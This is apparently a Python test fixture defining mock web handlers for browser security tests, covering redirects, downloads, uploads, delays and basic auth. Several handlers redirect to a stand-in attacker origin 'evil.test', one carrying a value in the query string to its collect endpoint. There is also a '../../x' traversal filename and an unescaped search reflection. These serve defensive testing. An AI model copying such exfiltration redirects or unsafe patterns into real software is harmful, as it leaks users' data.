"""Answers that are more than a page: redirects, downloads, uploads, delays, and what evil.test collects."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import AsyncIterator
from email import message_from_bytes, policy
from urllib.parse import quote

from tests.browser.site.logins import Backend, Handler, page
from tests.browser.site.wire import Answer, Request, in_json, redirect

EVIL = "https://evil.test"
BASIC = "Basic " + base64.b64encode(b"ada:basic").decode()
PIECE = bytes(1 << 16)


def to_evil(backend: Backend, request: Request) -> Answer:
    """B04: a look-alike at another origin."""
    return redirect(f"{EVIL}/plain", status=302)


def post_to_evil(backend: Backend, request: Request) -> Answer:
    """B05: the browser sends the same body again."""
    return redirect(f"{EVIL}/collect", status=308 if request.path.endswith("308") else 307)


def value_to_evil(backend: Backend, request: Request) -> Answer:
    """B06: a request to the bound origin, whose answer carries the value away."""
    return redirect(f"{EVIL}/collect?value={quote(request.parameters.get('value', ''))}", status=302)


def collect(backend: Backend, request: Request) -> Answer:
    """Takes anything, from any origin. The log has it."""
    allow = [("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")]
    return Answer(b"<!doctype html><title>Thanks</title><p>thanks", fields=allow)


def comment(backend: Backend, request: Request) -> Answer:
    """B08: what is posted is there for everybody to read."""
    backend.comments.append(request.form.get("comment", ""))
    return redirect("/comment")


def search(backend: Backend, request: Request) -> Answer:
    return page(backend, request, path="/comment", message=f"Nothing found for {request.parameters.get('q', '')}")


def download(backend: Backend, request: Request) -> Answer:
    name = request.parameters.get("name", "../../x")
    content = request.parameters.get("content", "downloaded\n").encode()
    return Answer(content, fields=[_attachment(name)], kind="application/octet-stream")


def download_big(backend: Backend, request: Request) -> Answer:
    size = int(request.parameters.get("bytes", 1 << 30))
    fields = [_attachment("big.bin"), ("Content-Length", str(size))]
    return Answer(fields=fields, kind="application/octet-stream", stream=_zeros(size))


def _attachment(name: str) -> tuple[str, str]:
    plain = name.encode("ascii", "replace").decode().replace('"', "_").replace("\r", "_").replace("\n", "_")
    return "Content-Disposition", f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(name, safe='')}"


async def _zeros(size: int) -> AsyncIterator[bytes]:
    while size > 0:
        yield PIECE[:size]
        size -= len(PIECE)


def upload(backend: Backend, request: Request) -> Answer:
    """Name and sha256 of each file."""
    head = f"Content-Type: {request.fields.get('content-type', '')}\r\n\r\n".encode()
    parts = message_from_bytes(head + request.body, policy=policy.HTTP).iter_parts()
    for part in parts:
        content = part.get_payload(decode=True)
        assert isinstance(content, bytes)
        backend.uploads.append(f"{part.get_filename()} {hashlib.sha256(content).hexdigest()}")
    return page(backend, request, message="\n".join(backend.uploads))


def slow(backend: Backend, request: Request) -> Answer:
    return Answer(b"<!doctype html><title>Slow</title><p>here at last", delay_s=float(_number(request, "ms")) / 1000)


def status(backend: Backend, request: Request) -> Answer:
    code = _number(request, "code", 200)
    return Answer(f"<!doctype html><title>{code}</title><h1>Status {code}</h1>".encode(), code)


def _number(request: Request, name: str, default: int = 0) -> int:
    text = request.parameters.get(name, "")
    return int(text) if text.isdigit() else default


def redirect_loop(backend: Backend, request: Request) -> Answer:
    return redirect(f"/redirect-loop?n={_number(request, 'n') + 1}", status=302)


def basic_auth(backend: Backend, request: Request) -> Answer:
    if request.fields.get("authorization") != BASIC:
        return Answer(b"Who are you?", 401, [("WWW-Authenticate", 'Basic realm="app.test"')])
    return Answer(b"<!doctype html><title>Basic</title><p>signed in as ada")


def storage(backend: Backend, request: Request) -> Answer:
    answer = page(backend, request)
    cookies = [("Set-Cookie", "server-side=kept; Path=/; HttpOnly; Max-Age=86400")]
    return Answer(answer.content, fields=cookies)


def api_echo(backend: Backend, request: Request) -> Answer:
    return in_json({"method": request.method, "query": request.query, "body": request.body.decode("utf-8", "replace")})


HANDLERS: dict[tuple[str, str], Handler] = {
    ("GET", "/redir"): to_evil,
    ("POST", "/post307"): post_to_evil,
    ("POST", "/post308"): post_to_evil,
    ("GET", "/redirect302"): value_to_evil,
    ("POST", "/comment"): comment,
    ("GET", "/search"): search,
    ("GET", "/download"): download,
    ("GET", "/download-big"): download_big,
    ("POST", "/upload"): upload,
    ("GET", "/slow"): slow,
    ("GET", "/status"): status,
    ("GET", "/redirect-loop"): redirect_loop,
    ("GET", "/basic-auth"): basic_auth,
    ("GET", "/storage"): storage,
    ("GET", "/api/echo"): api_echo,
    ("POST", "/api/echo"): api_echo,
    **{(method, "/collect"): collect for method in ("GET", "POST", "OPTIONS", "HEAD")},
}
